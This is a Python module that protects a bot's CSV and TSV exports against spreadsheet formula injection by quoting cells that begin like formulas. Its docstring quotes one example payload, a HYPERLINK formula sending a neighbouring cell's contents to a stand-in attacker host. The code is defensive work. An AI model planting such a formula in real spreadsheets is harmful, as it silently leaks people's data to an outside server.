"""Spreadsheet cells that open safely (CSV/formula injection, as OWASP describes it).

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some programs skip before looking) as a formula: a unit named
`=HYPERLINK("http://evil.example/?leak="&A2,"…")` would send the row next to it away when the
file is opened. Every CSV and TSV the bot writes passes its cells through `cell`, which puts a
single quote in front of such text, so the spreadsheet shows it as text. Numbers are left
alone: a count stays a number, and a negative number written as a number is not text.

The same starts are refused where names are typed (`starts_like_formula`), so new names never
need the quote; the quote is for names stored before the refusal existed.

It lives in the domain, the lowest layer, so the exports, the command line and the name rules
all use the one definition.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")


def starts_like_formula(text: str) -> bool:
    """Would a spreadsheet read this text, written as a cell, as a formula?"""
    return text[:1] in FORMULA_STARTS


def cell(value: object) -> object:
    """The value to write: text that starts like a formula gets a leading `'`; else as is."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def row(values: Iterable[object]) -> list[object]:
    return [cell(value) for value in values]


def tsv_line(*values: object) -> str:
    """One tab-separated line. A tab or line break inside a cell would start a new cell or
    row (which might then start with `=`), so it becomes a space, after the quote is added."""
    return "\t".join(
        str(cell(value)).replace("\t", " ").replace("\r", " ").replace("\n", " ")
        for value in values
    )


class SafeCsvWriter:
    """`csv.writer` whose every row goes through `row`."""

    def __init__(self, handle: Any) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow(row(values))
